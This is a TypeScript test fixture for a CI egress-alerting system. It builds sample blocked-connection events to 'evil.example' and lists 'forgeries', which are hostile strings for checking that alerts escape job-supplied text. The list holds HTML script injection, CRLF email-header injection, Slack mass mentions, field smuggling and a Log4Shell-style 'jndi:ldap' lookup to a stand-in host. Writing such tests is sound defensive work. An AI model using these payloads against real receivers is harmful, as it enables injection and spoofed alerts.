/** Events, messages and counts for tests of alerts. */
import type { EgressEvent } from '#api/event.ts';
import type { DropReason, Tally } from '../counters.ts';
import type { Message } from '../message.ts';
import { groupOf, rowOf } from '../row.ts';

export function eventOf(change: Partial<EgressEvent> = {}): EgressEvent {
  return {
    ...{ version: 1, id: 'row', time: '2030-01-01T00:00:00.000Z' },
    ...{ last_seen: '2030-01-01T00:00:01.000Z', action: 'block', target: 't', namespace: 'ci' },
    ...{
      pod: 'runner-1',
      container: 'build',
      project_id: '42',
      job_name: 'install',
      job_url: null,
    },
    ...{
      pid: 77,
      comm: 'node',
      parent_comm: 'npm',
      exe: '/usr/bin/node',
      argv: 'node setup.js',
      uid: 1000,
    },
    ...{ ancestry: [{ pid: 5, comm: 'npm' }], domain: 'evil.example', ip: '192.0.2.1' },
    ...{ port: 8000, protocol: 'tcp', count: 1, added: 1, rule: 'default', policy: null },
    ...{ reason: 'default' },
    ...change,
  };
}

export function messageOf(event: EgressEvent, change: Partial<Message> = {}): Message {
  const url = 'https://gitlab.example/projects/42';
  return {
    ...{ id: 'i.1', binding: 'ci/runners', route: 'oncall', time: Date.UTC(2030, 0, 1) },
    ...{ test: false, firing: [rowOf(event, groupOf(event), url)], resolved: [] },
    more: { groups: 0, attempts: 0 },
    ...change,
  };
}

/** What a job could write wherever it chooses a text, and what must not come of it in any receiver. */
export const forgeries: readonly string[] = [
  '<!channel> <@U1> <https://evil.example|Jobs of this project>',
  '`*bold* _it_ ~no~` ```',
  'x action=allow domain=fine.example',
  '"><script>alert(1)</script><a href="https://evil.example">job</a>',
  'a\r\nBcc: all@evil.example\r\n\r\nbody',
  'a\n- job_name=fine action=allow',
  '\u001b[31m\u202e\u2028\u0000ü&amp;&lt;',
  '{"alerts":[]}","action":"allow',
  '$\u007bjndi:ldap://evil.example/x} {{ .CommonLabels }}',
];

/** An event in which every text is one that a job chose. */
export function hostile(text: string): EgressEvent {
  const ancestry = [{ pid: 1, comm: text }];
  return eventOf({
    ...{ job_name: text, comm: text, parent_comm: text, exe: text, argv: text, pod: text },
    ...{ container: text, domain: text, rule: text, policy: text, project_id: text, ancestry },
  });
}

export interface Counted extends Tally {
  readonly counts: {
    sent: number;
    retried: number;
    folded: number;
    readonly dropped: Record<DropReason, number>;
  };
}

export function countingTally(): Counted {
  const counts = { sent: 0, retried: 0, folded: 0, dropped: { refused: 0, ended: 0 } };
  return {
    counts,
    sent: () => {
      counts.sent += 1;
    },
    retried: () => {
      counts.retried += 1;
    },
    folded: (attempts) => {
      counts.folded += attempts;
    },
    dropped: (rows, reason) => {
      counts.dropped[reason] += rows;
    },
  };
}
